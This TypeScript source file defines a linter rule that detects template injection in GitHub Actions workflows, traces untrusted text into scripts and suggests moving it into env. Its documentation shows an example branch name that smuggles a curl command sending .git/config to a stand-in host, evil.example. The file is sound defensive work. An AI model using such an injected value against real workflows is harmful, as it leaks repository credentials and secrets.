import type { Document } from '../../server/core/document.ts';
import { hoistIntoEnv } from '../../server/core/edit/hoist-env.ts';
import { hoistIntoProcessEnv } from '../../server/core/edit/hoist-javascript.ts';
import type { Confidence, Fix, Profile, Severity } from '../../server/core/finding.ts';
import { calledDocument } from '../../server/core/model/github/local-call.ts';
import type { Origin, Standpoint, Waypoint } from '../../server/core/model/github/origin.ts';
import { type Input, inputsOf, type Step } from '../../server/core/model/github/step.ts';
import { originOf } from '../../server/core/model/github/taint.ts';
import { actionName, isAction, type LocalUses } from '../../server/core/model/github/uses.ts';
import { type Job, liveJobs } from '../../server/core/model/github/workflow.ts';
import { type Interpolation, interpolationsOf } from '../../server/core/parse/expression.ts';
import { flowingContexts } from '../../server/core/parse/expression-query.ts';
import type { ScalarNode } from '../../server/core/parse/tree.ts';
import { type Context, defineRule } from '../../server/core/rule.ts';
import { shorten } from '../../server/core/text/shorten.ts';
import { SCRIPT_INPUTS } from '../data/script-inputs.ts';

export default defineRule({
  id: 'template-injection',
  summary: 'An expression pastes text that others control into a script',
  severity: 'high',
  confidence: 'high',
  profile: 'default',
  owasp: ['CICD-SEC-4'],
  cwe: [94, 78],
  since: '0.1.0',
  fix: 'unsafe',
  equivalents: {
    zizmor: ['template-injection'],
    actionlint: ['expression'],
    poutine: ['injection'],
    'pipeline-check': ['GHA-003', 'GHA-035', 'GHA-093', 'TAINT-001', 'TAINT-002', 'TAINT-003'],
    sisakulint: ['code-injection-critical', 'code-injection-medium', 'reusable-workflow-taint'],
  },
  references: ['https://docs.github.com/en/actions/concepts/security/script-injections'],
  docs: `
    ## What it does
    Reports \`\${{ … }}\` in a \`run:\` script, or in an input that an action runs as code (\`script\` of
    \`actions/github-script\` and the like), when somebody else decides the text.

    How bad it is follows from who that is. The title of an issue, the name of a fork's branch or a commit message
    come from anyone, and an input of a composite action that others use from callers who know nothing of it: high.
    Inputs of reusable workflows and of actions under \`.github\`, what only people with write access decide (inputs
    of \`workflow_dispatch\`, names of tags and labels) and what this file does not show (outputs of steps, computed
    matrices) is reported in the \`strict\` profile only, and so is any other expression in a script. Fields are
    known with their events: the title of an issue is nothing to a workflow that runs on \`push\`.

    Text is followed on its way through \`env\`, outputs of steps and jobs, \`GITHUB_ENV\`, matrices, artifacts of
    \`workflow_run\` and the variables of scripts, and into local actions and reusable workflows of the same repository.
    The related places of a finding show that way. What a script has held against a pattern is taken for safe.

    ## Why is this bad?
    GitHub replaces the expression by its value before the shell reads the script. A branch called
    \`x";curl$IFS-d@.git/config$IFS"evil.example";"\` is then no name but a command, run with the job's token and
    secrets.

    ## Example
    \`\`\`yaml bad .github/workflows/triage.yml
    on: issues
    permissions: {}
    jobs:
      triage:
        runs-on: ubuntu-latest
        steps:
          - run: echo "New issue \${{ github.event.issue.title }}"
    \`\`\`
    Use instead:
    \`\`\`yaml good .github/workflows/triage.yml
    on: issues
    permissions: {}
    jobs:
      triage:
        runs-on: ubuntu-latest
        steps:
          - run: echo "New issue \${TITLE}"
            env:
              TITLE: \${{ github.event.issue.title }}
    \`\`\`

    ## Fix safety
    The fix is unsafe: it moves the expression into the step's \`env\` and follows the quoting around it, but a script that
    meant to run the text as code no longer does. In \`cmd\`, which pastes \`%NAME%\` just as blindly, it turns on delayed
    expansion and writes \`!NAME!\`; in \`actions/github-script\` it reads \`process.env\`. There is none where the quoting is
    not certain, and none for text that is the command itself.
  `,
  check: {
    step(ctx, step) {
      for (const { scalar, place } of scriptsOf(step)) checkScript(ctx, step, scalar, place);
      if (step.uses?.kind === 'local') checkCall(ctx, step.uses, inputsOf(step), step);
    },
    workflow(ctx, workflow) {
      for (const job of liveJobs(workflow)) {
        if (job.uses?.kind === 'local') checkCall(ctx, job.uses, inputsOf(job), callerOf(job));
      }
    },
  },
});

interface PlacedScript {
  readonly scalar: ScalarNode;
  /** As messages call it. */
  readonly place: string;
}

/** The texts of a step that are run as code. */
function scriptsOf(step: Step): readonly PlacedScript[] {
  if (step.run) return [{ scalar: step.run, place: 'the script' }];
  const scripts = step.uses?.kind === 'repository' ? SCRIPT_INPUTS[actionName(step.uses)] : undefined;
  if (!scripts) return [];
  return inputsOf(step).flatMap(({ name, value }) =>
    scripts[name.text.toLowerCase()] ? [{ scalar: value, place: `\`${name.text}\`` }] : [],
  );
}

/** From where the inputs of a job that calls a workflow are read. */
function callerOf(job: Job): Standpoint {
  return { workflow: job.workflow, job, action: undefined, env: undefined, index: 0 };
}

/** Text of outsiders that goes to a workflow or action of the same repository, which pastes it into a script. */
function checkCall(ctx: Context, uses: LocalUses, inputs: readonly Input[], at: Standpoint): void {
  for (const { name, value } of inputs) {
    for (const { expression } of interpolationsOf(value)) {
      for (const context of expression ? flowingContexts(expression) : []) {
        const origin = originOf(context, at);
        if (origin.by !== 'outsider') continue;
        const called = calledDocument(ctx.document, uses);
        const sink = called && pastedInput(called, name.text.toLowerCase(), new Set());
        if (!sink) continue;
        ctx.report({
          span: value.map.span(context.span.start, context.span.end),
          message: `Anyone can choose the text of \`${shorten(context.path, 60)}\`, which what is called pastes into a script; use \`env\` there.`,
          confidence: 'medium',
          related: [...origin.way, ...sink],
        });
      }
    }
  }
}

/** The way of an input from the head of a workflow or action into a script; undefined where none is known. */
function pastedInput(called: Document, input: string, seen: Set<string>): readonly Waypoint[] | undefined {
  const key = `${called.source.path} ${input}`;
  if (seen.has(key)) return undefined;
  seen.add(key);
  const { source } = called;
  const comes = (value: ScalarNode, at: Standpoint): Waypoint | undefined => {
    for (const { expression } of interpolationsOf(value)) {
      for (const context of expression ? flowingContexts(expression) : []) {
        const origin = originOf(context, at);
        if (origin.by !== 'caller' || origin.input !== input) continue;
        const span = value.map.span(context.span.start, context.span.end);
        return { span, message: `It is \`${shorten(context.path, 60)}\` here.`, source };
      }
    }
    return undefined;
  };
  const passed = (uses: LocalUses, inputs: readonly Input[], at: Standpoint) => {
    for (const { name, value } of inputs) {
      const here = comes(value, at);
      const next = here && calledDocument(called, uses);
      const rest = next && pastedInput(next, name.text.toLowerCase(), seen);
      if (here && rest) return [here, ...rest];
    }
    return undefined;
  };
  for (const step of called.facet('step')) {
    for (const { scalar } of scriptsOf(step)) {
      const place = comes(scalar, step);
      if (place) return [place];
    }
    const way = step.uses?.kind === 'local' ? passed(step.uses, inputsOf(step), step) : undefined;
    if (way) return way;
  }
  for (const job of called.facet('workflow').flatMap(liveJobs)) {
    const way = job.uses?.kind === 'local' ? passed(job.uses, inputsOf(job), callerOf(job)) : undefined;
    if (way) return way;
  }
  return undefined;
}

function checkScript(ctx: Context, step: Step, script: ScalarNode, place: string): void {
  for (const interpolation of interpolationsOf(script)) {
    if (!interpolation.expression) continue;
    const fixes = () => [fixOf(ctx, step, script, interpolation)];
    let reported = false;
    for (const context of flowingContexts(interpolation.expression)) {
      const origin = originOf(context, step);
      const verdict = verdictOf(origin, isPublished(ctx, step));
      if (!verdict) continue;
      reported = true;
      const shown = context.call ? `${context.call.name}(…)` : shorten(context.path, 60);
      ctx.report({
        span: script.map.span(context.span.start, context.span.end),
        message: `${verdict.who} the text of \`${shown}\`, which becomes part of ${place}; pass it through \`env\`.`,
        severity: verdict.severity,
        confidence: verdict.confidence,
        profile: verdict.profile,
        ...('way' in origin && { related: origin.way }),
        fixes,
      });
    }
    if (reported) continue;
    ctx.report({
      span: script.map.span(interpolation.start, interpolation.end),
      message: `This expression becomes part of ${place}; pass it through \`env\`, which a shell does not run.`,
      severity: 'low',
      profile: 'strict',
      fixes,
    });
  }
}

interface Verdict {
  readonly who: string;
  readonly severity: Severity;
  readonly confidence: Confidence;
  readonly profile: Profile;
}

/** An action that others use; the actions under `.github` are called by the repository's own workflows. */
function isPublished(ctx: Context, step: Step): boolean {
  return step.action !== undefined && !ctx.source.path.includes('.github');
}

function verdictOf(origin: Origin, published: boolean): Verdict | undefined {
  switch (origin.by) {
    case 'outsider':
      return {
        who: 'Anyone can choose',
        severity: 'high',
        confidence: origin.way.length === 0 ? 'high' : 'medium',
        profile: 'default',
      };
    case 'caller':
      return {
        who: 'The caller chooses',
        severity: published ? 'high' : 'medium',
        confidence: 'medium',
        profile: published ? 'default' : 'strict',
      };
    case 'insider':
      return { who: 'Contributors choose', severity: 'medium', confidence: 'medium', profile: 'strict' };
    case 'unknown':
      return { who: 'It is not known who chooses', severity: 'low', confidence: 'low', profile: 'strict' };
    default:
      return undefined;
  }
}

function fixOf(ctx: Context, step: Step, script: ScalarNode, interpolation: Interpolation): Fix | undefined {
  if (script === step.run) return hoistIntoEnv(ctx.source, step, interpolation);
  return isAction(step.uses, 'actions/github-script')
    ? hoistIntoProcessEnv(ctx.source, step, script, interpolation)
    : undefined;
}
